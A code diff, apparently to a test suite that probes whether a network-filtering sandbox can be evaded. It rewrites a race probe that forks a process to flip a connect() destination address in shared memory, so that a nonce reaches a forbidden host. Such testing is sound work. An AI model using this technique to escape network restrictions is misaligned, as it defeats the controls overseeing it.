@@ -10,17 +10,17 @@ sockets.py long TO PORT NONCE                connect() with an address length of
 sockets.py unspec TO PORT NONCE              sendto() with the family AF_UNSPEC
 sockets.py mmsg NONCE                        sendmmsg(): an allowed and a forbidden question; an allowed and a forbidden address
 sockets.py uring TO PORT NONCE               socket, connect and send by io_uring
-sockets.py race TO OTHER PORT NONCE          connect() while another thread writes the address
+sockets.py race TO OTHER PORT NONCE          connect() while another process writes the address in shared memory
 sockets.py frame NONCE                       a datagram to the attacker as an Ethernet frame of our own
 """
 import ctypes
 import json
 import mmap
 import os
+import signal
 import socket
 import struct
 import sys
-import threading
 import time
 
 LIBC = ctypes.CDLL(None, use_errno=True)
@@ -193,31 +193,30 @@ def uring(to, port, nonce):
 
 
 def race(to, other, port, nonce):
-    """Half of the connects reach one address, half the other, whatever a supervisor read before."""
-    address = ctypes.create_string_buffer(sockaddr(to, port), 16)
-    going = True
-
-    def flip():
-        places = socket.inet_aton(to), socket.inet_aton(other)
-        while going:
-            for place in places:
-                ctypes.memmove(ctypes.addressof(address) + 4, place, 4)
-
-    thread = threading.Thread(target=flip)
-    thread.start()
-    for _ in range(20):
+    """Some of the connects reach one address, some the other, whatever a supervisor read before."""
+    page = mmap.mmap(-1, 4096)
+    page[:16] = sockaddr(to, port)
+    flipper = os.fork()
+    signal.alarm(0 if flipper else 8)
+    while flipper == 0:  # beside us, in the same memory
+        page[4:8] = socket.inet_aton(other)
+        page[4:8] = socket.inet_aton(to)
+    address, hits, end = ctypes.c_char.from_buffer(page), 0, time.monotonic() + 3
+    while hits < 3 and time.monotonic() < end:
         sock = socket.socket()
-        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_SYNCNT, 1)
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 0, 300000))
-        if call(LIBC.connect, sock.fileno(), address, 16) == 0:
-            try:
-                print(sock.getpeername())
+        try:
+            if call(LIBC.connect, sock.fileno(), ctypes.byref(address), 16) < 0:
+                hits += 1  # refused
+            elif sock.getpeername()[0] == other:
+                hits += 1
                 sock.sendall(nonce.encode())
-            except OSError as error:
-                print(error)
+        except OSError as error:
+            print(error)
         sock.close()
-    going = False
-    thread.join()
+    os.kill(flipper, signal.SIGKILL)
+    os.waitpid(flipper, 0)
+    print(hits)
 
 
 def checksum(data):
